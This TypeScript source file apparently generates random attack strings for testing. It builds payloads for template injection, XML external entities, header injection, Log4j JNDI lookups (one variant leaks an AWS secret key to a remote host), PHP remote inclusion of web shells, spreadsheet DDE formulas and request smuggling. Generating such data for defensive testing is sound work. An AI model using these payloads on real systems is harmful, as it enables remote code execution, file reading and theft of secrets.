// biome-ignore-all lint/suspicious/noTemplateCurlyInString: template and lookup syntax

import type { Random } from "../random.ts"
import { applicationFile, unixFile, windowsFile } from "./files.ts"
import { hostName, identifier, oneOf } from "./grammar.ts"
import { objectAttack } from "./object-attack.ts"
import { documentQuery, ldapInjection, xpathInjection } from "./query-injection.ts"
import { serverSideRequest } from "./server-side-request.ts"
import { NODE_ENVIRONMENT, word } from "./vocabulary.ts"

/**
 * Attacks beyond the four named classes, written from the documentation of what they abuse:
 * template engines, LDAP filters (RFC 4515), XML entities (XML 1.0), MongoDB operators, URLs of
 * inner services, header line breaks (RFC 9112), Log4j lookups, and files included by URL.
 */
export function otherAttack(random: Random): string {
  return oneOf(random, [
    serverSideRequest,
    serverSideRequest,
    templateInjection,
    templateInjection,
    externalEntity,
    ldapInjection,
    ldapInjection,
    documentQuery,
    documentQuery,
    headerBreak,
    logLookup,
    remoteInclude,
    remoteInclude,
    xpathInjection,
    objectAttack,
    objectAttack,
    formula,
    smuggledRequest,
  ])
}

function templateInjection(random: Random): string {
  const [left, right] = [random.between(2, 9999), random.between(2, 9999)]
  const sum = random.pick([
    `${left}*${right}`,
    `${left}+${right}`,
    `${left}*'${right}'`,
    `'${identifier(random)}'.toUpperCase()`,
  ])
  const python = random.pick([
    "config",
    "config.items()",
    "self.__init__.__globals__",
    "request.application.__globals__.__builtins__",
    "''.__class__.__mro__[1].__subclasses__()",
    "[].__class__.__base__.__subclasses__()[40]('/etc/passwd').read()",
    "cycler.__init__.__globals__",
    "lipsum.__globals__",
    "self._TemplateReference__context",
    "request|attr('application')|attr('__globals__')",
    "get_flashed_messages.__globals__",
    "settings.SECRET_KEY",
  ])
  const probe = oneOf(random, [
    engineInternals,
    engineInternals,
    engineInternals,
    engineInternals,
    () => `{{${sum}}}`,
    () => `{{ ${sum} }}`,
    () => `\${${sum}}`,
    () => `#{${sum}}`,
    () => `<%= ${sum} %>`,
    () => `*{${sum}}`,
    () => `@(${sum})`,
    () => `{${sum}}`,
    () => `[[${sum}]]`,
    () => `{{=${sum}}}`,
    () => `~{${sum}}`,
    () => `{{${python}}}`,
    () => `{{ ${python} }}`,
    () =>
      `{% ${random.pick(["debug", "import os", "for c in [].__class__.__base__.__subclasses__()", "include '/etc/passwd'", "if 1==1"])} %}`,
    () =>
      `\${${random.pick(["T(java.lang.System).getenv()", "\"\".getClass().forName('java.lang.Runtime')", "applicationScope", "pageContext.request", "product.getClass().getProtectionDomain()", "class.getClassLoader()"])}}`,
    () => `<#assign ex="freemarker.template.utility.Execute"?new()>`,
    () => `#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime()`,
    () => `{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}`,
    () => `{{['${identifier(random)}']|join}}`,
    () => `<%= File.open('${unixFile(random)}').read %>`,
    () => `<%= Dir.entries('/') %>`,
    () => `@{${random.pick(["7*7", 'System.IO.File.ReadAllText("web.config")', "Html.Raw(1)"])}}`,
    () => `__\${${random.pick(["T(java.lang.Runtime).getRuntime()", sum])}}__::.x`,
    () => `{{#with "s" as |string|}}{{lookup string.sub "constructor"}}{{/with}}`,
  ])
  return `${random.pick(["", "", "", identifier(random), `${word(random)} `, "name=", "}}", "'}}"])}${probe}`
}

function externalEntity(random: Random): string {
  const name = random.pick(["xxe", "x", "file", "ent", "test", identifier(random)])
  const target = oneOf(random, [
    (r) => `file://${unixFile(r)}`,
    (r) => `file:///${windowsFile(r).replaceAll("\\", "/")}`,
    (r) => `http://${hostName(r)}/${identifier(r)}${r.pick([".dtd", "", ".xml"])}`,
    (r) => `php://filter/convert.base64-encode/resource=${applicationFile(r)}`,
    (r) =>
      `${r.pick(["expect://id", "jar:http://x/y!/z", "ftp://1.2.3.4:2121/x", "netdoc:/etc/passwd"])}`,
  ])
  const head = random.pick([
    '<?xml version="1.0"?>',
    '<?xml version="1.0" encoding="UTF-8"?>\n',
    "",
    '<?xml version="1.0" encoding="ISO-8859-1"?>',
  ])
  const root = random.pick(["foo", "root", "data", "r", identifier(random)])
  return oneOf(random, [
    () =>
      `${head}<!DOCTYPE ${root} [<!ENTITY ${name} SYSTEM "${target}">]><${root}>&${name};</${root}>`,
    () =>
      `${head}<!DOCTYPE ${root} [<!ELEMENT ${root} ANY><!ENTITY ${name} SYSTEM '${target}'>]><${root}>&${name};</${root}>`,
    () => `${head}<!DOCTYPE ${root} [<!ENTITY % ${name} SYSTEM "${target}"> %${name};]>`,
    () => `${head}<!DOCTYPE ${root} PUBLIC "-//${identifier(random)}//DTD" "${target}">`,
    () => `<!ENTITY % all "<!ENTITY send SYSTEM 'http://${hostName(random)}/?%file;'>"> %all;`,
    () =>
      `${head}<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><lolz>&c;</lolz>`,
    () =>
      `<${root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${target}"/></${root}>`,
    () => `<!ENTITY ${name} SYSTEM "${target}">`,
    () => `<xsl:value-of select="document('${target}')"/>`,
  ])
}

function headerBreak(random: Random): string {
  const breakLine = random.pick([
    "%0d%0a",
    "%0d%0a",
    "%0D%0A",
    "%0a",
    "%250d%250a",
    "%E5%98%8A%E5%98%8D",
    "%u000d%u000a",
    "%23%0d%0a",
    "%3f%0d%0a",
  ])
  const header = oneOf(random, [
    (r) => `Set-Cookie:${r.pick([" ", "%20", ""])}${identifier(r)}=${identifier(r)}`,
    (r) => `Location:${r.pick([" ", "%20", ""])}http://${hostName(r)}`,
    () => "Content-Length:%200",
    () => `Content-Type: text/html${breakLine}${breakLine}<html>${word(random)}</html>`,
    (r) => `Bcc: ${identifier(r)}@${hostName(r)}`,
    () => `HTTP/1.1 200 OK${breakLine}Content-Type: text/html`,
    (r) => `Refresh: 0;url=http://${hostName(r)}`,
  ])
  return `${random.pick(["", "/", identifier(random), "en", `http://${hostName(random)}/`])}${breakLine}${header}${random.pick(["", breakLine, `${breakLine}${breakLine}`])}`
}

/** Lookups that Log4j 2 expanded in any text it logged (CVE-2021-44228). */
function logLookup(random: Random): string {
  const scheme = random.pick(["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba"])
  const url = `${scheme}://${hostName(random)}${random.pick(["", `:${random.between(80, 9999)}`])}/${identifier(random)}`
  return oneOf(random, [
    () => `\${jndi:${url}}`,
    () => `\${\${lower:j}ndi:${url}}`,
    () => `\${\${lower:j}\${lower:n}\${lower:d}i:${url}}`,
    () => `\${\${::-j}\${::-n}\${::-d}\${::-i}:${url}}`,
    () => `\${\${env:${identifier(random).toUpperCase()}:-j}ndi:${url}}`,
    () => `\${\${upper:j}ndi:${url}}`,
    () =>
      `\${jndi:${scheme}://\${${random.pick(["env:AWS_SECRET_ACCESS_KEY", "sys:java.version", "hostName", "ctx:loginId"])}}.${hostName(random)}/a}`,
    () => `\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:${url}}`,
    () =>
      `\${${random.pick(["env:PATH", "sys:user.name", "java:version", "main:0", "ctx:x", "script:javascript:1", "dns:address|x", "url:UTF-8:http://x"])}}`,
  ])
}

function remoteInclude(random: Random): string {
  const script = random.pick(["shell", "c99", "r57", "cmd", "evil", "backdoor", identifier(random)])
  const file = `${script}${random.pick([".txt", ".php", ".gif", ".jpg", ".inc", ""])}`
  const tail = random.pick(["%00", "?cmd=id", "?&cmd=ls", "?cmd=whoami", "%3f%00", "?c=uname+-a"])
  const url = `${random.pick(["http://", "http://", "http://", "https://", "ftp://", "hTTp://"])}${hostName(random)}/${random.pick(["", `${identifier(random)}/`, "~x/"])}${file}${tail}`
  const name = random.pick([
    "page",
    "file",
    "include",
    "inc",
    "path",
    "dir",
    "template",
    "root_path",
    "mosConfig_absolute_path",
    "GLOBALS[root]",
    "_REQUEST[option]",
    "language",
    `${word(random)}_path`,
    `${word(random)}_dir`,
    `CONFIG[${word(random)}_root]`,
    `${identifier(random)}_root_path`,
    identifier(random),
  ])
  return oneOf(random, [
    () => `${scriptPath(random)}?${name}=${url}`,
    () => `${name}=${url}`,
    () =>
      `${random.pick(["data://text/plain,", "data:text/plain;base64,", "php://input", "expect://id", "expect://ls", "phar://x.phar/y", "zip://x.zip%23y"])}${random.pick(["", btoa("<?php phpinfo(); ?>"), "<?php system('id');?>"])}`,
    () => `\\\\${hostName(random)}\\${identifier(random)}\\${file}`,
  ])
}

/** A script somewhere below the root of a site, as lists of vulnerable scripts name them. */
function scriptPath(random: Random): string {
  const directories = random.many(
    random.below(4),
    () => `${random.pick([word, identifier])(random)}/`,
  )
  const script = random.pick([
    "index",
    "include",
    "config",
    "common",
    "header",
    "functions",
    "main",
    "lib",
    "admin",
    identifier(random),
  ])
  return `/${directories}${script}${random.pick([".php", ".php", ".php", ".inc.php", ".class.php", ".asp", ".jsp", ""])}`
}

/** What the documentation of an engine offers to a template and a stranger should not reach. */
function engineInternals(random: Random): string {
  return random.pick([
    "{{config.__class__.__init__.__globals__['os']}}",
    "{{request.environ}}",
    "{{url_for.__globals__}}",
    "{{app.request.query.all}}",
    "{{_self.env.display('x')}}",
    "{{dump(app)}}",
    "{$smarty.version}",
    "#set($e='e')$e.getClass().forName('java.lang.Runtime')",
    "$class.inspect('java.lang.Runtime').type",
    "${class.getResource('').getPath()}",
    "${''.getClass()}",
    "<#list .data_model?keys as k>${k}</#list>",
    "[#assign x='freemarker.template.utility.Execute'?new()]${x('id')}",
    "{{range.constructor('return global')()}}",
    "{{this.constructor.constructor('return process')()}}",
    "#{global.process.mainModule}",
    `<%= global.${NODE_ENVIRONMENT} %>`,
    "${self.module.cache.util.os}",
    "<% import os %>${os.environ}",
    "{% import os %}{{os.getcwd()}}",
    "{{ joiner.__init__.__globals__.os }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ x.__class__.__mro__ }}",
    "@System.Environment.MachineName",
    "@(Environment.OSVersion)",
    '{{.}}{{printf "%s" .Password}}',
    "${T(java.lang.System).getProperty('user.dir')}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "${#_memberAccess['allowStaticMethodAccess']=true}",
  ])
}

/** A cell that a spreadsheet would compute (OpenFormula; Dynamic Data Exchange). */
function formula(random: Random): string {
  const url = `http://${hostName(random)}`
  return `${random.pick(["=", "+", "-", "@"])}${random.pick([
    `cmd|'/C ${random.pick(["calc", "notepad", "powershell"])}'!A${random.below(10)}`,
    "SUM(1+1)*cmd|' /C calc'!A0",
    `HYPERLINK("${url}?x="&A${random.below(10)},"${word(random)}")`,
    `IMPORTXML(CONCAT("${url}/?v=",A1),"//a")`,
    `WEBSERVICE("${url}/")`,
    'DDE("cmd";"/C calc";"x")',
  ])}`
}

/** One message that two servers cut at different places (RFC 9112, section 11.2). */
function smuggledRequest(random: Random): string {
  const line = random.pick(["\r\n", "\r\n", "%0d%0a"])
  const coding = `Transfer-Encoding:${random.pick([" chunked", "\tchunked", " xchunked", " chunked, identity"])}`
  const length = `Content-Length: ${random.below(9)}`
  const next = `${random.pick(["GET", "POST", "G"])} /${random.pick(["admin", identifier(random)])} HTTP/1.1`
  return random.pick([
    `POST / HTTP/1.1${line}Host: ${hostName(random)}${line}${coding}${line}${length}${line}${line}0${line}${line}${next}`,
    `0${line}${line}${next}${line}Host: ${hostName(random)}`,
    `${length}${line}${coding}${line}${line}0${line}${line}${next}`,
  ])
}
